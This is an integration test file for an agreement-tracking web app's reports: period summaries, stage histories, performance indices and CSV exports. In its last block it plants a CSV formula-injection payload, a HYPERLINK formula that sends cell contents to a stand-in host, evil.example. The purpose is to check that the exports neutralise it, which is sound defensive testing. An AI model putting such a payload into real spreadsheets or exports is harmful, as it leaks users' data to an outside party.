import { expect } from 'chai';
import request from 'supertest';
import { createTestApp, type TestApp } from '../support/app.js';
import { loginAs } from '../support/users.js';
import { bearer, createAgreementVia, moveVia } from '../support/agreements.js';
import { loadDemo } from '../support/demo.js';
import { expectError } from '../support/errors.js';
import type { Summary } from '../../domain/reports/summarize-period.js';
import { parse } from 'csv-parse/sync';

describe('reports: period summary and performance indices', function () {
  // the demo's dated histories are played through the real use cases first
  this.timeout(90_000);
  let t: TestApp;
  let admin: string;
  let summary2022: Summary;

  before(async () => {
    t = await createTestApp({ label: 'rep_summary' });
    await loadDemo(t);
    admin = (await loginAs(t, 'admin')).token;
    const res = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31').set(bearer(admin)).expect(200);
    summary2022 = res.body;
  });
  after(async () => t.close());

  it('when the 2022 summary is asked with the demo data, then it counts the two bilateral agreements and the AHU PKS signed, with their dates and places', () => {
    const { signed } = summary2022;
    expect(signed.total).to.equal(3);
    expect(signed.bilateral).to.equal(2);
    expect(signed.byType).to.deep.equal({ mou: 1, technical_arrangement: 1, cooperation_agreement: 1 });
    expect(signed.byIndex).to.deep.equal({ protection_diplomacy: 2, information_systems: 1 });
    expect(signed.list.map((a) => [a.code, String(a.date).slice(0, 10), a.place, a.bilateral])).to.deep.equal([
      ['MOU-MY-2022-01', '2022-04-01', 'Bogor', true],
      ['TA-SA-2022-01', '2022-08-11', 'Jakarta', true],
      ['PKS-ID-2022-01', '2022-09-13', 'Jakarta', false],
    ]);
    expect(signed.list[0].signatories.map((s) => s.name)).to.deep.equal(['Ida Fauziyah', 'M. Saravanan']);
  });

  it('when the 2022 summary is asked, then what stood where on 31 December 2022 comes from the dated history', () => {
    const at = Object.fromEntries(summary2022.byStage.map((s) => [s.stage, s.agreements.map((a) => a.code)]));
    expect(at.drafting).to.deep.equal(['MOU-ID-2022-01']);
    // PKS-ID-2022-04 is Ditjen Protkons' confidential PKS: the admin asking sees it.
    expect(at.interagency_consultation).to.deep.equal(['PKS-ID-2022-02', 'PKS-ID-2022-03', 'PKS-ID-2022-04']);
    expect(at.awaiting_signature).to.deep.equal(['PED-ID-2022-01', 'PED-ID-2022-02']);
    expect(at.in_force).to.deep.equal(['MOU-MY-2022-01', 'TA-SA-2022-01']);
    expect(at.signed).to.deep.equal(['PKS-ID-2022-01']);
    expect(at.expired).to.deep.equal(['TA-SA-2018-01']);
  });

  it('when the 2022 summary is asked for the memoranda, then the stages over time stand at each quarter’s end as the history says, the last being the year’s end', async () => {
    const res = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31&type=mou').set(bearer(admin)).expect(200);
    const over = (res.body as Summary).stagesOverTime.map((p) => [p.at, Object.fromEntries(p.byStage.map((s) => [s.stage, s.count]))]);
    // the Malaysia MoU awaited signature from 14 March and was in force from 1 April; the LPSK MoU
    // was drafted from 22 August
    expect(over).to.deep.equal([
      ['2022-03-31', { awaiting_signature: 1 }],
      ['2022-06-30', { in_force: 1 }],
      ['2022-09-30', { drafting: 1, in_force: 1 }],
      ['2022-12-31', { drafting: 1, in_force: 1 }],
    ]);
    expect(Object.fromEntries((res.body as Summary).byStage.map((s) => [s.stage, s.count]))).to.deep.equal(over[3][1]);
    // the chart shows one series per quarter's end
    const figures = await request(t.app).get('/api/reports/figures?from=2022-01-01&to=2022-12-31&type=mou&lang=en').set(bearer(admin)).expect(200);
    const chart = figures.body.charts.find((c: { key: string }) => c.key === 'stages');
    expect(chart.title).to.equal('Agreements by stage over time, to 31 December 2022');
    expect(chart.series.map((x: { name: string }) => x.name)).to.deep.equal(['31 March 2022', '30 June 2022', '30 September 2022', '31 December 2022']);
    expect(chart.categories).to.deep.equal(['Drafting', 'Awaiting signature', 'In force']);
    expect(chart.series.map((x: { values: number[] }) => x.values)).to.deep.equal([[0, 1, 0], [0, 0, 1], [1, 0, 1], [1, 0, 1]]);
    // each quarter's count is what a summary ending that day says stood where, for every type
    const year = (await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31').set(bearer(admin)).expect(200)).body as Summary;
    for (const point of year.stagesOverTime) {
      const then = (await request(t.app).get(`/api/reports/summary?from=2022-01-01&to=${point.at}`).set(bearer(admin)).expect(200)).body as Summary;
      expect(point.byStage, point.at).to.deep.equal(then.byStage.map((x) => ({ stage: x.stage, count: x.count })));
    }
    // a period of less than a quarter has its own end only
    const short = await request(t.app).get('/api/reports/summary?from=2022-04-01&to=2022-05-31&type=mou').set(bearer(admin)).expect(200);
    expect((short.body as Summary).stagesOverTime.map((p) => p.at)).to.deep.equal(['2022-05-31']);
  });

  it('when an earlier year is asked, then agreements stand where they stood then, and the ones not yet created are absent', async () => {
    const res = await request(t.app).get('/api/reports/summary?from=2021-01-01&to=2021-12-31').set(bearer(admin)).expect(200);
    const at = Object.fromEntries((res.body as Summary).byStage.map((s) => [s.stage, s.agreements.map((a) => a.code)]));
    expect(at).to.deep.equal({ negotiation: ['MOU-MY-2022-01'], in_force: ['TA-SA-2018-01'] });
    expect(res.body.signed.total).to.equal(0);
  });

  it('when the 2022 summary is asked, then the lapsed arrangement counts as expired, stage durations are in working days, and the guidelines’ signatures are overdue at year end', () => {
    expect(summary2022.expired.list.map((a) => a.code)).to.deep.equal(['TA-SA-2018-01']);
    const mouAwaiting = summary2022.stageDurations.find((d) => d.type === 'mou' && d.stage === 'awaiting_signature')!;
    // 14 March 2022 to 1 April 2022: 14 working days (no holiday file for 2022 is shipped)
    expect(mouAwaiting).to.include({ instances: 1, medianWorkingDays: 14, p90WorkingDays: 14 });
    const guidelineReview = summary2022.stageDurations.find((d) => d.type === 'guideline' && d.stage === 'legal_review')!;
    expect(guidelineReview.instances).to.equal(2);
    expect(summary2022.signatures.byParty.find((p) => p.party === 'Malaysia')).to.include({ signatures: 1, medianWorkingDays: 14 });
    expect(summary2022.signatures.overdueAtEnd.map((o) => [o.code, o.signatory])).to.deep.equal([
      ['PED-ID-2022-01', 'Menteri Luar Negeri'],
      ['PED-ID-2022-02', 'Menteri Luar Negeri'],
    ]);
    const units = summary2022.stageDeadlines.byLeadUnit.map((u) => u.leadUnit);
    expect(units).to.deep.equal(['PROTKONS', 'PWNI']);
    for (const u of summary2022.stageDeadlines.byLeadUnit) expect(u.onTimeShare).to.equal(u.met / (u.met + u.missed));
  });

  it('when the 2022 summary is asked, then a stay that began before the period counts from its own start, not from an earlier stay in the same stage', () => {
    const stay = (type: string, stage: string) => summary2022.stageDurations.find((d) => d.type === type && d.stage === stage);
    // The Malaysia MoU negotiated in 2016–2017, was on hold, and negotiated again from 17 May 2021
    // until legal review on 10 January 2022: 34 whole weeks, 170 working days.
    expect(stay('mou', 'negotiation')).to.include({ instances: 1, medianWorkingDays: 170, p90WorkingDays: 170 });
    // The Saudi arrangement stood in force from 15 October 2018 until it expired on 1 February 2022.
    expect(stay('technical_arrangement', 'in_force')).to.include({ instances: 1, medianWorkingDays: 860, p90WorkingDays: 860 });
  });

  it('when the summary is filtered by index, type or lead unit, then only those agreements count', async () => {
    const byIndex = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31&index=institutional_strengthening').set(bearer(admin)).expect(200);
    expect(byIndex.body.signed.total).to.equal(0);
    expect((byIndex.body as Summary).byStage.flatMap((s) => s.agreements.map((a) => a.code)).sort()).to.deep.equal(['MOU-ID-2022-01', 'PED-ID-2022-01', 'PED-ID-2022-02', 'PKS-ID-2022-03']);
    for (const typed of ['PROTKONS', 'protkons', 'Protkons']) {
      const byUnit = await request(t.app).get(`/api/reports/summary?from=2022-01-01&to=2022-12-31&leadUnit=${typed}`).set(bearer(admin)).expect(200);
      expect(byUnit.body.signed.list.map((a: { code: string }) => a.code), typed).to.deep.equal(['PKS-ID-2022-01']);
      expect(byUnit.body.stageDeadlines.byLeadUnit.map((u: { leadUnit: string }) => u.leadUnit), typed).to.deep.equal(['PROTKONS']);
      expect(byUnit.body.filters.leadUnit, typed).to.equal('PROTKONS');
    }
    const byType = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31&type=guideline').set(bearer(admin)).expect(200);
    expect(byType.body.signatures.overdueAtEnd).to.have.length(2);
    expect(byType.body.stageDurations.every((d: { type: string }) => d.type === 'guideline')).to.equal(true);
  });

  it('when the period is malformed or reversed, then 422 names the field in both languages', async () => {
    const bad = await request(t.app).get('/api/reports/summary?from=2022-13-01&to=2022-12-31').set(bearer(admin));
    expectError(bad, 422, 'validation_failed');
    const reversed = await request(t.app).get('/api/reports/summary?from=2022-12-31&to=2022-01-01').set(bearer(admin));
    expectError(reversed, 422, 'validation_failed');
    expect(reversed.body.error.message).to.match(/is before.*lebih awal/);
    expect(reversed.body.error.details).to.deep.equal([{ field: 'to', message: "'to' must not be before 'from' / 'to' tidak boleh lebih awal daripada 'from'" }]);
    expect(bad.body.error.details.map((d: { field: string; message: string }) => [d.field, d.message.split(' / ').length])).to.deep.equal([['from', 2]]);
  });

  it('when a stage changes today, then the 2022 figures stay as they were', async () => {
    const drafter = (await loginAs(t, 'drafter')).token;
    const created = await createAgreementVia(t, drafter);
    await moveVia(t, drafter, created.id, 'interagency_consultation');
    const res = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31').set(bearer(admin)).expect(200);
    expect(res.body.byStage).to.deep.equal(JSON.parse(JSON.stringify(summary2022.byStage)));
  });

  it('when an admin renames an index from 2024 and retires another, then the names of earlier years stay and attributions are kept', async () => {
    const list = await request(t.app).get('/api/indices').set(bearer(admin)).expect(200);
    expect(list.body.items.map((i: { code: string }) => i.code)).to.deep.equal(['information_systems', 'institutional_strengthening', 'protection_diplomacy']);
    const diplomacy = list.body.items[2];
    const renamed = await request(t.app)
      .patch('/api/indices/protection_diplomacy')
      .set(bearer(admin))
      .send({ version: diplomacy.version, rename: { fromYear: 2024, id: 'Indeks Diplomasi Pelindungan', en: 'Protection Diplomacy Index' } })
      .expect(200);
    expect(renamed.body.names.map((n: { fromYear: number }) => n.fromYear)).to.deep.equal([2022, 2024]);
    await request(t.app).patch('/api/indices/information_systems').set(bearer(admin)).send({ version: list.body.items[0].version, retiredFromYear: 2025 }).expect(200);
    const stale = await request(t.app).patch('/api/indices/information_systems').set(bearer(admin)).send({ version: list.body.items[0].version, retiredFromYear: 2026 });
    expectError(stale, 409, 'version_conflict');
    const res = await request(t.app).get('/api/reports/summary?from=2022-01-01&to=2022-12-31').set(bearer(admin)).expect(200);
    expect(res.body.signed.byIndex).to.deep.equal({ protection_diplomacy: 2, information_systems: 1 });
  });

  it('when an admin puts the indices in a new order, then the list and the annual report follow it; an order that misses one is refused and nothing moves', async () => {
    const codes = async () => (await request(t.app).get('/api/indices').set(bearer(admin)).expect(200)).body.items.map((i: { code: string }) => i.code);
    const before = await codes();
    expect(before).to.deep.equal(['information_systems', 'institutional_strengthening', 'protection_diplomacy']);
    const order = ['protection_diplomacy', 'information_systems', 'institutional_strengthening'];
    const res = await request(t.app).put('/api/indices/order').set(bearer(admin)).send({ codes: order }).expect(200);
    expect(res.body.items.map((i: { code: string; position: number }) => [i.code, i.position])).to.deep.equal(order.map((c, k) => [c, k + 1]));
    expect(await codes()).to.deep.equal(order);
    const md = (await request(t.app).get('/api/reports/annual?year=2022&format=md').set(bearer(admin)).expect(200)).text;
    const headings = md.split('\n').filter((l) => l.startsWith('## ')).map((l) => l.slice(3));
    const at = (start: string) => headings.findIndex((h) => h.startsWith(start));
    expect(at('Indeks Diplomasi Pelindungan')).to.be.within(0, at('Indeks Pemanfaatan dan Pengembangan Sistem Informasi') - 1);
    expect(at('Indeks Pemanfaatan dan Pengembangan Sistem Informasi')).to.be.below(at('Indeks Penguatan Sistem Kelembagaan'));

    const missing = await request(t.app).put('/api/indices/order').set(bearer(admin)).send({ codes: ['information_systems', 'protection_diplomacy'] });
    expectError(missing, 409, 'version_conflict');
    expect(missing.body.error.message).to.equal(
      'The order must name every index once (not named: institutional_strengthening): read the indices again / Urutan harus menyebut setiap indeks satu kali (tidak disebut: institutional_strengthening): muat ulang daftar indeks',
    );
    const unknown = await request(t.app).put('/api/indices/order').set(bearer(admin)).send({ codes: [...order, 'no_such_index'] });
    expectError(unknown, 409, 'version_conflict');
    expect(unknown.body.error.message).to.contain('(unknown: no_such_index)').and.to.contain('(tidak dikenal: no_such_index)');
    expectError(await request(t.app).put('/api/indices/order').set(bearer(admin)).send({ codes: [...order, order[0]] }), 422, 'validation_failed');
    const diplomat = (await loginAs(t, 'diplomat')).token;
    expectError(await request(t.app).put('/api/indices/order').set(bearer(diplomat)).send({ codes: [...before] }), 403, 'forbidden');
    expect(await codes()).to.deep.equal(order);
    await request(t.app).put('/api/indices/order').set(bearer(admin)).send({ codes: before }).expect(200);
  });

  it('when an admin adds an index under a code that is taken, or changes one that does not exist, then the refusal names the code in the product’s curly quotes, in both languages', async () => {
    const taken = await request(t.app)
      .post('/api/indices')
      .set(bearer(admin))
      .send({ code: 'protection_diplomacy', name: { id: 'Indeks Lain', en: 'Another Index' }, fromYear: 2024 });
    expectError(taken, 409, 'duplicate');
    expect(taken.body.error.message).to.equal('Index “protection_diplomacy” already exists / Indeks “protection_diplomacy” sudah ada');
    const unknown = await request(t.app).patch('/api/indices/no_such_index').set(bearer(admin)).send({ version: 1, retiredFromYear: 2026 });
    expectError(unknown, 404, 'not_found');
    expect(unknown.body.error.message).to.equal('No performance index “no_such_index” / Indeks kinerja “no_such_index” tidak ada');
  });

  it('when a drafter attributes an agreement to an unknown index, then 422 names it; a known one is kept with a history event', async () => {
    const drafter = (await loginAs(t, 'drafter')).token;
    const created = await createAgreementVia(t, drafter);
    const bad = await request(t.app).put(`/api/agreements/${created.id}/indices`).set(bearer(drafter)).send({ indices: ['no_such_index'] });
    expectError(bad, 422, 'validation_failed');
    const ok = await request(t.app).put(`/api/agreements/${created.id}/indices`).set(bearer(drafter)).send({ indices: ['protection_diplomacy'] }).expect(200);
    expect(ok.body.indices).to.deep.equal(['protection_diplomacy']);
    const history = await request(t.app).get(`/api/agreements/${created.id}/history`).set(bearer(drafter)).expect(200);
    const items = history.body.items ?? history.body;
    expect(items.map((e: { action: string }) => e.action)).to.include('indices_set');
    const diplomat = (await loginAs(t, 'diplomat')).token;
    expectError(await request(t.app).post('/api/indices').set(bearer(diplomat)).send({ code: 'x_index', name: { id: 'X', en: 'X' }, fromYear: 2024 }), 403, 'forbidden');
  });
});

describe('reports: CSV exports and spreadsheet formulas', function () {
  this.timeout(90_000);
  let t: TestApp;
  let admin: string;

  before(async () => {
    t = await createTestApp({ label: 'rep_formula' });
    await loadDemo(t);
    admin = (await loginAs(t, 'admin')).token;
    // A code stored before imports checked codes (a register's "=HYPERLINK(...)" cell), as the review planted it.
    await t.ctx.models.Agreement.updateOne({ code: 'MOU-MY-2022-01' }, { $set: { code: '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")' } });
  });
  after(async () => t.close());

  for (const path of ['/api/reports/summary?from=2022-01-01&to=2022-12-31&format=csv', '/api/reports/annual?year=2022&format=csv&lang=en']) {
    it(`when ${path.split('?')[0]} is exported as CSV with a code that starts like a formula, then the cell is text with a leading apostrophe, as in the agreements CSV`, async () => {
      const res = await request(t.app).get(path).set(bearer(admin)).expect(200);
      expect(res.headers['content-type']).to.match(/^text\/csv/);
      const cells = parse(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat() as string[];
      expect(cells.some((c) => c.includes('HYPERLINK')), 'the planted code is listed').to.equal(true);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).to.deep.equal([]);
      expect(cells.find((c) => c.includes('HYPERLINK'))).to.match(/^'=HYPERLINK/);
    });
  }
});
